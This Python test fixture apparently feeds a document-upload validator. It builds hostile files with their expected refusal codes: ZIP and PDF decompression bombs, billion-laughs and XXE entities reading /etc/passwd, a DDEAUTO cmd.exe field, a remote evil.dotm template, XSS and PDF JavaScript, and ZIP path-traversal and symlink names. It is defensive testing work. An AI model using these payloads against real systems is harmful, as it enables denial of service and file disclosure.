"""Files that somebody might send to do harm, all of them made here, and what is to become of each.

`REFUSED` are not read: file name, bytes, code. `NEUTRAL` are read, and what is dangerous in them is left out: file name, bytes,
a word of the warning ("" for none). Nothing here needs more than some megabytes of memory.
"""

import io
import stat
import struct
import zipfile
import zlib

from pypdf import PdfReader, PdfWriter

from tests.unit.disclosure import made

TITLE = "临川市人民政府办公室关于做好防汛抗旱工作的通知"
LINES = [
    TITLE,
    "临政办发〔2019〕17号",
    "各县(区)人民政府，市政府各部门：",
    "为做好防汛工作，现通知如下。",
    "临川市人民政府办公室",
    "2019年4月12日",
]
TEXT = "\n".join(LINES)
PAYLOAD = "<script>alert(1)</script>"


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, the first of them its catalogue."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return out.getvalue()


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def locked_pdf() -> bytes:
    """A PDF that needs a password."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(made.pdf(LINES))))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_of_a_laughing_tree() -> bytes:
    """Forty levels of pages, each of which names the next twice: two to the fortieth pages in four kilobytes."""
    levels = [b"<< /Type /Pages /Count 9 /Kids [%d 0 R %d 0 R] >>" % (n + 3, n + 3) for n in range(40)]
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *levels, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


def pdf_of_laughing_forms() -> bytes:
    """A page that draws a form twice, which draws another twice, thirty deep."""
    head = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
        stream(b"/X Do /X Do"),
    ]
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
            % (n + 6),
        )
        for n in range(30)
    ]
    return raw_pdf(*head, *forms, stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"))


def pdf_of_zeros() -> bytes:
    """A page whose content unpacks to fifty megabytes of blanks."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << >> /XObject << >> >> >>",
        stream(zlib.compress(b" " * 50_000_000), b"/Filter /FlateDecode"),
    )


def pdf_with_a_script() -> bytes:
    """A PDF that would run a script when opened."""
    data = made.pdf(LINES)
    return data.replace(
        b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog"
    )


def told(data: bytes, name: str, size: int) -> bytes:
    """A ZIP whose directory says that the entry unpacks to so many bytes."""
    out = bytearray(data)
    place = out.rindex(b"PK\x01\x02")
    while bytes(out[place + 46 : place + 46 + len(name)]) != name.encode():
        place = out.rindex(b"PK\x01\x02", 0, place)
    out[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(out)


def flat_bomb() -> bytes:
    """Nine hundred entries that share the bytes of one (after Fifield, 2019)."""
    body = zlib.compress(b"\0" * 2_000_000)[2:-4]
    crc = zlib.crc32(b"\0" * 2_000_000)
    sizes = struct.pack("<III", crc, len(body), 2_000_000)
    local = (
        struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HH", 1, 0)
        + b"a"
        + body
    )
    directory = b"".join(
        struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0)
        + b"n%04d" % n
        for n in range(900)
    )
    return (
        local
        + directory
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 900, 900, len(directory), len(local), 0)
    )


def locked_zip() -> bytes:
    """A ZIP with one entry that needs a password, after one that does not."""
    data = bytearray(made.zipped({"好.txt": TEXT, "锁.txt": TEXT}))
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
BOMB = made.docx(["x"], extra={"word/media/a.bin": b"\0" * 20_000_000})
MACRO = made.docx(LINES, extra={"word/vbaProject.bin": b"x"})
HIDDEN_MACRO = made.zipped(
    {
        "[Content_Types].xml": "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
        "word/document.xml": "<x/>",
    }
)
UTF16 = '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS + "<x>&c;</x>"
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("空.txt", b" \n ", "document.empty"),
    "pdf said to be text": ("通知.txt", made.pdf(LINES), "document.mismatch"),
    "text said to be pdf": ("通知.pdf", TEXT.encode(), "document.mismatch"),
    "page said to be docx": ("网页.docx", f"<html><body>{TEXT}</body></html>".encode(), "document.mismatch"),
    "docx said to be ofd": ("版式.ofd", made.docx(LINES), "document.mismatch"),
    "archive said to be docx": ("打包.docx", made.zipped({"a.txt": TEXT}), "document.kind"),
    "program": ("程序.txt", b"MZ\x90\x00" + b"\0" * 200, "document.kind"),
    "picture": ("扫描.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "document.kind"),
    "macro": ("宏.docx", MACRO, "document.macro"),
    "macro under another name": ("改名的宏.docx", HIDDEN_MACRO, "document.macro"),
    "old word": ("旧.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "document.old_office"),
    "bomb": ("炸弹.docx", BOMB, "document.bomb"),
    "bomb of blanks in a pdf": ("空白.pdf", pdf_of_zeros(), "document.bomb"),
    "laughing page tree": ("页树.pdf", pdf_of_a_laughing_tree(), "document.bomb"),
    "billion laughs": ("实体.docx", made.docx(LINES, prolog=LAUGHS), "document.entities"),
    "billion laughs in UTF-16": (
        "宽实体.docx",
        made.zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": UTF16.encode("utf-16-be")}),
        "document.entities",
    ),
    "outside entity": ("外部.docx", made.docx(LINES, prolog=OUTSIDE), "document.entities"),
    "outside entity in ofd": (
        "外部.ofd",
        made.zipped({"OFD.xml": f"{OUTSIDE}<x>&a;</x>"}),
        "document.entities",
    ),
    "ofd pointing outside": (
        "越界.ofd",
        made.zipped({"OFD.xml": "<a xmlns='x'><DocRoot>../../../etc/passwd</DocRoot></a>"}),
        "document.damaged",
    ),
    "locked pdf": ("加密.pdf", locked_pdf(), "document.locked"),
    "broken encoding": ("乱码.txt", b"\xff\xff\xfe" + bytes(range(128, 256)) * 40, "document.not_text"),
    "half of UTF-16": ("半个.txt", b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\0", "document.not_text"),
    "noise": ("噪声.txt", bytes(range(256)) * 20, "document.not_text"),
    "damaged pdf": ("坏.pdf", b"%PDF-1.7\nnothing", "document.damaged"),
    "damaged docx": ("坏.docx", made.docx(LINES)[:-40], "document.damaged"),
    "page of millions of elements": (
        "碎.html",
        b"<html><body>" + b"<b></b>" * 1_800_000,
        "document.too_large",
    ),
    "docx that lies about its size": (
        "谎.docx",
        told(made.docx(LINES), "word/document.xml", 2**32 - 2),
        "document.bomb",
    ),
}

PAGE = f"""<!DOCTYPE html><html><head><title>{TITLE}</title><script>document.write('伪造的通知')</script></head>
<body onload="alert(1)"><nav><a href="javascript:alert(1)">首页</a></nav>{"".join(f"<p>{line}</p>" for line in LINES)}
<iframe src="file:///etc/passwd"></iframe><object data="x.swf"></object><p style="display:none">索引号：999999999/2000-00001</p>
<svg onload="alert(1)"></svg></body></html>"""
FIELD = "</w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p><w:p><w:r><w:t>"
TEMPLATE = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://x/evil.dotm" TargetMode="External"/>'
    "</Relationships>"
)
BREAKING = "\n".join(
    [
        *LINES[:3],
        f"一、{PAYLOAD}</article></main><img src=x onerror=alert(1)>{{{{ 7|add:7 }}}}{{% debug %}}",
        "二、\u202e颠倒\u2066的\x00字\x1b符\ufffe。",
        f"三、叠{chr(0x0301) * 400}字。",
        "四、" + "长" + "w" * 30_000,
        *LINES[4:],
    ]
)
NEUTRAL: dict[str, tuple[str, bytes, str]] = {
    "honest": ("好.docx", made.docx(LINES), ""),
    "page with scripts": ("脚本.html", PAGE.encode(), "脚本"),
    "pdf with a script": ("脚本.pdf", pdf_with_a_script(), "脚本"),
    "ten thousand pages": ("万页.pdf", made.pdf(LINES, pages=10_000), "10000 页"),
    "field that asks a program": ("域.docx", made.docx([*LINES, FIELD]), "外部"),
    "template from outside": (
        "模板.docx",
        made.docx(LINES, extra={"word/_rels/settings.xml.rels": TEMPLATE.encode()}),
        "外部",
    ),
    "file within a file": ("嵌入.docx", made.docx(LINES, extra={"word/embeddings/a.bin": b"MZ"}), "内嵌"),
    "text that breaks the page": ("撑破.txt", BREAKING.encode(), ""),
    "text without end": ("没完.txt", (TEXT + "\n" + "防汛" * 1_100_000).encode(), "过长"),
    "lines without end": ("空行.txt", TEXT.encode() + b"\n" * 17_000_000, "过长"),
}

REGULAR, LINK, DEVICE = stat.S_IFREG | 0o644, stat.S_IFLNK | 0o777, stat.S_IFCHR | 0o666


def tricky_zip() -> bytes:
    """A ZIP with every trick that a directory allows, and three honest files among them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, mode in (
            ("好一.txt", TEXT, REGULAR),
            ("../../etc/cron.d/x.txt", TEXT, REGULAR),
            ("/绝对.txt", TEXT, REGULAR),
            ("C:\\windows\\x.txt", TEXT, REGULAR),
            ("链接.txt", "/etc/passwd", LINK),
            ("设备.txt", "", DEVICE),
            ("CON.txt", TEXT.replace("防汛", "防火"), REGULAR),
            ("好一.TXT", TEXT.replace("防汛抗旱", "森林防火"), REGULAR),
            ("颠倒\u202etxt.exe", "MZ", REGULAR),
            (f"{'长' * 3000}.txt", TEXT.replace("防汛抗旱", "地质灾害"), REGULAR),
            ("套.zip", made.zipped({"里.zip": made.zipped({"a.txt": TEXT})}), REGULAR),
            ("零.txt", b" " * 20_000_000, REGULAR),
            ("__MACOSX/._好一.txt", "x", REGULAR),
        ):
            entry = zipfile.ZipInfo(name)
            entry.external_attr, entry.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            archive.writestr(entry, data)
    return out.getvalue()


TRICKS: dict[str, str] = {
    "好一.txt": "",
    "etc/cron.d/x.txt": "document.path",
    "绝对.txt": "document.path",
    "C:/windows/x.txt": "document.path",
    "链接.txt": "document.path",
    "设备.txt": "document.path",
    "CON.txt": "",
    "好一（2）.TXT": "",
    "颠倒txt.exe": "",  # refused by what it is: neither text nor a document
    f"{'长' * 115}….txt": "",
    "套.zip": "document.nested",
    "零.txt": "document.bomb",
}
"""What becomes of each of its files: its shown name and the code of its refusal."""
